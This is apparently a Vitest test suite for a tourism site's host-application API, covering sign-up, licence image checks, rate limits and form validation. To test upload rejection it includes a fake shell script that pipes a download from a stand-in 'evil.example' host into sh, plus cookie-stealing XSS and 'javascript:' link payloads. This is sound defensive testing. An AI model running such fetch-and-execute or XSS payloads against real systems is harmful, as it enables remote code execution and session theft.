import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { eq } from 'drizzle-orm';
import sharp from 'sharp';
import { ACCOUNT_MESSAGES, HOST_MESSAGES, LICENCE_IMAGE_MAX_BYTES } from '@weekends/shared';
import { bearer, clientIp, createTestApp, signUp, type TestApp } from '../../test/helpers.ts';
import { customers, hosts, outbox } from '../../db/schema/index.ts';
import { createSession } from '../accounts/sessions.ts';
import { confirmationLink } from '../accounts/confirmation.ts';
import { HOST_RATE_LIMITS } from './rate-limits.ts';
import { applicationBody, apply, approve, dataUrl, insertPlaces, jpeg, sessionCookie } from './testing/applications.ts';

/**
 * Host sign-up: the e-mail check, a visitor's application (new account, signed in,
 * confirmation mailed), a signed-in customer's (no password), the licence image judged by its content, and the rules.
 */
let t: TestApp;
let places: Awaited<ReturnType<typeof insertPlaces>>;
let dubai: { cityId: number; areaId: number };

beforeAll(async () => {
  t = await createTestApp();
  places = await insertPlaces(t.fixtures);
  dubai = { cityId: places.dubai.id, areaId: places.marina.id };
});
afterAll(() => t?.close());

const hostRow = async (customerId: number) =>
  (await t.db.select().from(hosts).where(eq(hosts.customerId, customerId)))[0];
const mailsTo = (to: string) => t.db.select().from(outbox).where(eq(outbox.toAddress, to));
const emailCheck = (email: string) =>
  t.app.inject({
    method: 'GET',
    url: `/api/host-applications/email-check?email=${encodeURIComponent(email)}`,
    headers: { 'x-forwarded-for': clientIp() },
  });
const hostMe = (token: string) => t.app.inject({ method: 'GET', url: '/api/host/me', headers: bearer(token) });

describe('a visitor applies', () => {
  it('makes an unconfirmed account with a pending application, signs it in and mails the confirmation and the receipt', async () => {
    const body = await applicationBody(dubai, {
      mobile2: '552223344',
      landline2: '',
      firstName2: 'Sara',
      lastName2: 'Ali',
      designation2: 'Operations',
    });
    const response = await apply(t.app, body);
    expect(response.statusCode).toBe(201);
    const answer = response.json();
    expect(answer.user).toMatchObject({
      email: body.email,
      isConfirmed: false,
      isHost: false,
      isGuest: false,
      phoneNumber: '+971501234567',
    });
    expect(answer.host).toEqual({
      status: 'pending',
      rejectionReason: null,
      companyName: 'Desert Bloom Tours LLC',
      isConfirmed: false,
      canManageActivities: false,
      firstName: 'Hamad',
      lastName: 'Al Nuaimi',
    });

    const row = (await hostRow(answer.user.id))!;
    expect(row).toMatchObject({
      status: 'pending',
      businessName: 'Desert Bloom Tours LLC',
      landline: `+971${body.landline}`,
      mobile2: '+971552223344',
      landline2: null,
      cityId: dubai.cityId,
      areaId: dubai.areaId,
      youtubeLink: null,
    });
    expect(row.tradeLicenseImage).toMatch(/^licences\/[0-9a-f]{32}\.jpg$/);
    const [account] = await t.db
      .select({ passwordHash: customers.passwordHash })
      .from(customers)
      .where(eq(customers.id, answer.user.id));
    expect(account!.passwordHash).toMatch(/^\$argon2id\$/);

    // Signed in by cookie, as after the ordinary sign-up: the host area can load at once.
    const cookie = sessionCookie(response)!;
    const me = await t.app.inject({ method: 'GET', url: '/api/host/me', cookies: { weekends_session: cookie } });
    expect(me.json()).toMatchObject({ status: 'pending' });
    const templates = (await mailsTo(body.email)).map((m) => m.template).sort();
    expect(templates).toEqual(['email-confirmation', 'host-application-received']);
    const receipt = (await mailsTo(body.email)).find((m) => m.template === 'host-application-received')!;
    expect(receipt.text).toContain('Desert Bloom Tours LLC');
    expect(receipt.text).toContain('confirm your e-mail address');
  });

  it('stores the licence re-encoded, without the metadata the photo carried', async () => {
    const photo = await jpeg(800, 600, { Copyright: 'GPS and owner details', Artist: 'Phone camera' });
    expect((await sharp(photo).metadata()).exif).toBeDefined();
    const response = await apply(t.app, await applicationBody(dubai, { tradeLicenseImage: dataUrl(photo) }));
    expect(response.statusCode).toBe(201);
    const key = (await hostRow(response.json().user.id))!.tradeLicenseImage!;
    const stored = (await t.app.storage.private.read(key))!;
    const metadata = await sharp(stored).metadata();
    expect(metadata.format).toBe('jpeg');
    expect(metadata.exif).toBeUndefined();
    expect(stored.includes(Buffer.from('GPS and owner details'))).toBe(false);
  });

  it('takes bare base64 as well as a data URL', async () => {
    const response = await apply(
      t.app,
      await applicationBody(dubai, { tradeLicenseImage: (await jpeg()).toString('base64') }),
    );
    expect(response.statusCode).toBe(201);
  });

  it('needs a password of the sign-up rule and a solved captcha', async () => {
    const { password: _password, ...withoutPassword } = await applicationBody(dubai);
    const missing = await apply(t.app, withoutPassword);
    expect(missing.statusCode).toBe(400);
    expect(missing.json().fieldErrors.password).toEqual([HOST_MESSAGES.passwordMin]);

    const short = await apply(t.app, await applicationBody(dubai, { password: 'Ab1!' }));
    expect(short.json().fieldErrors.password).toContain(HOST_MESSAGES.passwordMin);

    const noCaptcha = await apply(t.app, await applicationBody(dubai), { captcha: false });
    expect(noCaptcha.statusCode).toBe(400);
    expect(noCaptcha.json().code).toBe('CAPTCHA_FAILED');
  });

  it("answers an existing customer's e-mail and a host's e-mail with the catalogue's two messages, and the check tells them apart", async () => {
    const customer = await signUp(t.app);
    const asCustomer = await apply(t.app, await applicationBody(dubai, { email: customer.email.toUpperCase() }));
    expect(asCustomer.statusCode).toBe(409);
    expect(asCustomer.json()).toMatchObject({
      code: 'CUSTOMER_EXISTS',
      message: HOST_MESSAGES.customerExists,
      fieldErrors: { email: [HOST_MESSAGES.customerExists] },
    });
    expect(await hostRow(customer.user.id)).toBeUndefined();

    const first = await apply(t.app, await applicationBody(dubai));
    const hostEmail = first.json().user.email as string;
    const asHost = await apply(t.app, await applicationBody(dubai, { email: hostEmail }));
    expect(asHost.statusCode).toBe(409);
    expect(asHost.json()).toMatchObject({ code: 'HOST_EXISTS', message: HOST_MESSAGES.hostExists });

    expect((await emailCheck('nobody-here@example.test')).json()).toEqual({ status: 'none' });
    expect((await emailCheck(customer.email)).json()).toEqual({ status: 'customer' });
    expect((await emailCheck(hostEmail.toUpperCase())).json()).toEqual({ status: 'host' });
    const bad = await emailCheck('not-an-email');
    expect(bad.statusCode).toBe(400);
    expect(bad.json().fieldErrors.email).toEqual([HOST_MESSAGES.emailInvalid]);
  });

  it("takes over a checkout guest's record on the e-mail, as the ordinary sign-up does", async () => {
    const [guest] = await t.db
      .insert(customers)
      .values({ email: `guest-host-${Date.now()}@example.test`, firstName: 'G', lastName: 'Uest', isGuest: true })
      .returning();
    expect((await emailCheck(guest!.email)).json()).toEqual({ status: 'none' });
    const response = await apply(t.app, await applicationBody(dubai, { email: guest!.email }));
    expect(response.statusCode).toBe(201);
    expect(response.json().user).toMatchObject({ id: guest!.id, isGuest: false });
  });
});

describe('a signed-in customer applies', () => {
  it('sends no password: the application joins the account, whose names and mobile become contact person 1', async () => {
    const customer = await signUp(t.app);
    const { password: _p, ...body } = await applicationBody(dubai, {
      email: 'ignored@example.test',
      firstName: 'Mariam',
      phoneNumber: '561112233',
    });
    const response = await apply(t.app, body, { token: customer.token });
    expect(response.statusCode).toBe(201);
    expect(response.json().user).toMatchObject({
      id: customer.user.id,
      email: customer.email,
      firstName: 'Mariam',
      phoneNumber: '+971561112233',
    });
    expect((await hostRow(customer.user.id))!.status).toBe('pending');
    // No new confirmation mail: the account's own address stands.
    expect((await mailsTo(customer.email)).filter((m) => m.template === 'host-application-received')).toHaveLength(1);

    const again = await apply(t.app, body, { token: customer.token });
    expect(again.statusCode).toBe(409);
    expect(again.json().code).toBe('ALREADY_APPLIED');
  });

  it('applies again after a rejection: pending once more, the old licence image forgotten', async () => {
    const customer = await signUp(t.app);
    const { password: _p, ...body } = await applicationBody(dubai);
    expect((await apply(t.app, body, { token: customer.token })).statusCode).toBe(201);
    const before = (await hostRow(customer.user.id))!;
    await t.db
      .update(hosts)
      .set({ status: 'rejected', rejectionReason: 'The licence has expired.' })
      .where(eq(hosts.customerId, customer.user.id));
    expect((await hostMe(customer.token)).json()).toMatchObject({
      status: 'rejected',
      rejectionReason: 'The licence has expired.',
    });
    expect((await emailCheck(customer.email)).json()).toEqual({ status: 'host' });

    const response = await apply(t.app, { ...body, tradeLicenseId: 'DED-RENEWED' }, { token: customer.token });
    expect(response.statusCode).toBe(201);
    const after = (await hostRow(customer.user.id))!;
    expect(after).toMatchObject({ status: 'pending', rejectionReason: null, tradeLicenseId: 'DED-RENEWED' });
    expect(after.tradeLicenseImage).not.toBe(before.tradeLicenseImage);
    expect(await t.app.storage.private.read(before.tradeLicenseImage!)).toBeNull();
  });

  it('refuses an approved host applying again', async () => {
    const customer = await signUp(t.app);
    const { password: _p, ...body } = await applicationBody(dubai);
    await apply(t.app, body, { token: customer.token });
    await approve(t.db, customer.user.id);
    expect((await apply(t.app, body, { token: customer.token })).json().code).toBe('ALREADY_APPLIED');
  });

  it('treats a guest session as a visitor (a password is needed)', async () => {
    const [guest] = await t.db
      .insert(customers)
      .values({ email: `guest-session-${Date.now()}@example.test`, firstName: 'G', lastName: 'Uest', isGuest: true })
      .returning();
    const { token } = await createSession(t.db, guest!.id, false);
    const { password: _p, ...body } = await applicationBody(dubai);
    const response = await apply(t.app, body, { token });
    expect(response.statusCode).toBe(400);
  });
});

describe('the licence image is judged by its content', () => {
  const refused = async (image: string) => {
    const response = await apply(t.app, await applicationBody(dubai, { tradeLicenseImage: image }));
    expect(response.statusCode).toBe(400);
    return response.json();
  };

  it('refuses a PNG renamed, an HTML file and a script sent as a JPEG, and stores nothing', async () => {
    const png = await sharp({ create: { width: 300, height: 200, channels: 3, background: '#ffffff' } })
      .png()
      .toBuffer();
    const html = Buffer.from('<!doctype html><html><body><script>alert(document.cookie)</script></body></html>');
    const script = Buffer.from('#!/bin/sh\ncurl https://evil.example/x | sh\n');
    // A JPEG's first bytes over a body that is not one.
    const forged = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from('not really an image at all')]);
    const licencesDir = path.join(t.app.config.privateDir, 'licences');
    const storedBefore = fs.existsSync(licencesDir) ? fs.readdirSync(licencesDir).length : 0;
    for (const data of [png, html, script, forged]) {
      const answer = await refused(dataUrl(data, 'image/jpeg'));
      expect(answer).toMatchObject({
        code: 'IMAGE_NOT_JPEG',
        fieldErrors: { tradeLicenseImage: [HOST_MESSAGES.licenceNotJpeg] },
      });
    }
    expect((await refused('%%% not base64 %%%')).code).toBe('IMAGE_NOT_JPEG');
    expect(fs.existsSync(licencesDir) ? fs.readdirSync(licencesDir).length : 0).toBe(storedBefore);
  });

  it('refuses an image over 8 MB, and a body past the limit', async () => {
    const oversized = Buffer.alloc(LICENCE_IMAGE_MAX_BYTES + 512 * 1024, 0xab);
    oversized.set([0xff, 0xd8, 0xff, 0xe0]);
    const answer = await refused(dataUrl(oversized));
    expect(answer.fieldErrors.tradeLicenseImage).toEqual([HOST_MESSAGES.licenceTooLarge]);

    const huge = await apply(t.app, await applicationBody(dubai, { tradeLicenseImage: 'A'.repeat(20 * 1024 * 1024) }));
    expect(huge.statusCode).toBe(413);
  });

  it('requires the image', async () => {
    expect((await refused('')).fieldErrors.tradeLicenseImage).toEqual([HOST_MESSAGES.licenceRequired]);
  });
});

describe('rate limits', () => {
  it('answers 429 to an address that checks e-mails past the limit', async () => {
    const ip = clientIp();
    const check = () =>
      t.app.inject({
        method: 'GET',
        url: '/api/host-applications/email-check?email=someone%40example.test',
        headers: { 'x-forwarded-for': ip },
      });
    for (let i = 0; i < HOST_RATE_LIMITS.emailCheck.max; i++) expect((await check()).statusCode).toBe(200);
    expect((await check()).statusCode).toBe(429);
  });
});

describe('the form rules', () => {
  it('takes exactly 9 digits after +971 for phones and landlines', async () => {
    for (const phoneNumber of ['50123456', '5012345678', '+971501234567', '05012345', 'abcdefghi', '']) {
      const response = await apply(t.app, await applicationBody(dubai, { phoneNumber }));
      expect({ phoneNumber, status: response.statusCode }).toEqual({ phoneNumber, status: 400 });
      expect(response.json().fieldErrors.phoneNumber).toEqual([
        phoneNumber ? HOST_MESSAGES.phoneInvalid : HOST_MESSAGES.required,
      ]);
    }
    const landline = await apply(
      t.app,
      await applicationBody(dubai, { landline: '4234567', mobile2: '12', landline2: '1234567890' }),
    );
    expect(landline.json().fieldErrors).toMatchObject({
      landline: [HOST_MESSAGES.phoneInvalid],
      mobile2: [HOST_MESSAGES.phoneInvalid],
      landline2: [HOST_MESSAGES.phoneInvalid],
    });
  });

  it('refuses an area of another city', async () => {
    const response = await apply(t.app, await applicationBody({ cityId: places.dubai.id, areaId: places.corniche.id }));
    expect(response.statusCode).toBe(400);
    expect(response.json()).toMatchObject({
      code: 'AREA_NOT_IN_CITY',
      fieldErrors: { areaId: [HOST_MESSAGES.areaNotInCity] },
    });
  });

  it('requires the business fields and takes only http(s) links', async () => {
    const response = await apply(
      t.app,
      await applicationBody(dubai, {
        companyName: '',
        tradeLicenseId: ' ',
        designation: '',
        email: 'x@',
        facebookLink: 'javascript:alert(1)',
        twitterLink: 'ftp://files.example',
      }),
    );
    expect(response.statusCode).toBe(400);
    expect(response.json().fieldErrors).toMatchObject({
      companyName: [HOST_MESSAGES.required],
      tradeLicenseId: [HOST_MESSAGES.required],
      designation: [HOST_MESSAGES.required],
      email: [HOST_MESSAGES.emailInvalid],
      facebookLink: [HOST_MESSAGES.linkInvalid],
      twitterLink: [HOST_MESSAGES.linkInvalid],
    });
  });
});

describe('GET /api/host/me and the confirmation', () => {
  it('answers 404 for a customer without an application', async () => {
    const customer = await signUp(t.app);
    const response = await hostMe(customer.token);
    expect(response.statusCode).toBe(404);
  });

  it('sends a pending applicant to the host area once the e-mail is confirmed (isHost), a rejected one not', async () => {
    const response = await apply(t.app, await applicationBody(dubai));
    const user = response.json().user as { id: number; email: string };
    const token = new URL(confirmationLink(t.app.config.SESSION_SECRET, user), 'http://x').searchParams.get('token')!;
    const confirmed = await t.app.inject({
      method: 'POST',
      url: '/api/accounts/confirm',
      headers: { 'x-forwarded-for': clientIp() },
      payload: { id: user.id, token },
    });
    expect(confirmed.json()).toMatchObject({ message: ACCOUNT_MESSAGES.emailConfirmed, isHost: true });

    await t.db.update(hosts).set({ status: 'rejected' }).where(eq(hosts.customerId, user.id));
    const again = await t.app.inject({
      method: 'POST',
      url: '/api/accounts/confirm',
      headers: { 'x-forwarded-for': clientIp() },
      payload: { id: user.id, token },
    });
    expect(again.json()).toMatchObject({ isHost: false });
  });
});
